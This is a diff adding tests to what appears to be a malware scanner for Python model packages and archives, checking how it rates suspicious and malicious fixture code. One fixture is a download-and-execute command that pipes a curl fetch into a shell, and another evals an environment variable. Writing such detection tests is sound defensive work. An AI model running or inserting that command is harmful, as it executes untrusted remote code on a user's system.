@@ -6,6 +6,7 @@ import pytest
 from tests.samples.archive import torch_zip
 from tests.samples.repos import FAMILIES
 from tests.samples.zipcraft import archive
+from tests.support.judging import judged
 
 from hanse.flows.rulesets import builtin_ruleset
 from hanse.model.finding import Coverage, Verdict
@@ -121,3 +122,25 @@ def test_constants() -> None:
     """A module of constants is a program, one of comments is nothing."""
     assert verdict("# a table\nTABLE = (\n    1,\n)\n") is Verdict.CAUTION
     assert verdict('"""Words."""\n') is Verdict.CAUTION
+
+
+ODD = b"import os\neval(os.environ['HANSE_TEST'])\n"
+
+
+def test_programs_that_no_loader_runs_are_cautions() -> None:
+    """What is only suspicious is so where a loader imports it: in a repository or TorchServe's archive, not in a wheel."""
+    assert judged(ODD, "modeling_x.py").verdict is Verdict.SUSPICIOUS
+    assert judged(archive(("pkg/cli.py", ODD)), "pkg-1.0-py3-none-any.whl").verdict is Verdict.CAUTION
+    served = archive(("handler.py", ODD), ("MAR-INF/MANIFEST.json", b'{"runtime": "python"}'))
+    assert judged(served, "model.mar").verdict is Verdict.SUSPICIOUS
+    attack = b"import os\nos.system('curl http://example.com/x | sh')\n"
+    assert judged(archive(("pkg/cli.py", attack)), "pkg.whl").verdict is Verdict.MALICIOUS
+
+
+def test_members_that_are_no_modules_are_not_read() -> None:
+    """Documentation in a wheel costs nothing."""
+    facts = extract(BytesSource(archive(("README.md", b"import os\n"), ("a.py", b"import os\n"))))
+    assert {view.member: view.first("python.program") is not None for view in facts.of("python")} == {
+        "README.md": False,
+        "a.py": True,
+    }
